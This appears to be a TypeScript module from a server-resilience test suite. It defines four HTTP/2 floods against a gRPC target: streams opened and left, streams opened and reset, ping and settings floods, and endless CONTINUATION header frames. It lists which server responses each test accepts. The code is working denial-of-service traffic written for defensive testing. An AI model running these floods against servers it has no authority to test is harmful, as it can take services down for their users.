import { type Answer, type Attack, inTurns, type Target } from "../attack";
import { flags, frame, goAwayIn, headerBlock, ping, preface, reset, settings } from "../wire/frames";
import { callHeaders } from "../wire/grpc";
import { http2Only, RawConnection } from "../wire/socket";

const connections = 20;
const frames = 5_000;
const waitMs = 2_000;
const mebibyte = 2 ** 20;

/** The streams that a client opens are odd. */
const streams = Array.from({ length: frames }, (_, index) => 2 * index + 1);

/** Writes the same on many connections. @returns why each was hung up on, or that it was not */
async function flood(target: Target, bytes: Buffer, count = connections): Promise<Answer[]> {
    const one = async (): Promise<Answer> => {
        const connection = await RawConnection.open(target.grpc, target.access, http2Only);
        await Promise.race([connection.write(Buffer.concat([preface, settings, bytes])), connection.end(waitMs)]);
        const ended = await connection.end(waitMs);
        connection.destroy();
        const reason = goAwayIn(connection.said);
        return reason === undefined ? ended : { taken: "closed", said: reason };
    };
    return inTurns(Array<typeof one>(count).fill(one), connections);
}

/** A server may wait for what was begun, or hang up; it may not answer what was never asked. */
const borne = ["closed", "unanswered"] as const;

export const floods: Attack[] = [
    {
        name: "streams that are opened and left, gRPC",
        sends: `${connections} connections, ${frames} streams each`,
        allows: borne,
        run: ({ target }) => {
            const headers = callHeaders(target.access);
            const open = streams.map((stream) => frame("headers", flags.endHeaders, stream, headers));
            return flood(target, Buffer.concat(open));
        },
    },
    {
        name: "streams that are opened and reset, gRPC",
        sends: `${connections} connections, ${frames} streams each`,
        allows: borne,
        run: ({ target }) => {
            const headers = callHeaders(target.access);
            const open = (stream: number) => [frame("headers", flags.endHeaders, stream, headers), reset(stream)];
            return flood(target, Buffer.concat(streams.flatMap(open)));
        },
    },
    {
        name: "pings and settings, gRPC",
        sends: `${connections} connections, ${frames} frames of each`,
        allows: borne,
        run: ({ target }) => flood(target, Buffer.concat(streams.flatMap(() => [ping, settings]))),
    },
    {
        name: "headers without an end, gRPC",
        sends: "4 connections, 8 MiB of headers each",
        allows: borne,
        run: ({ target }) => {
            const long = headerBlock({ "x-long": "x".repeat(16_000) });
            const first = frame("headers", flags.none, 1, callHeaders(target.access));
            const more = Array.from({ length: (8 * mebibyte) / 16_000 }, () =>
                frame("continuation", flags.none, 1, long),
            );
            return flood(target, Buffer.concat([first, ...more]), 4);
        },
    },
];
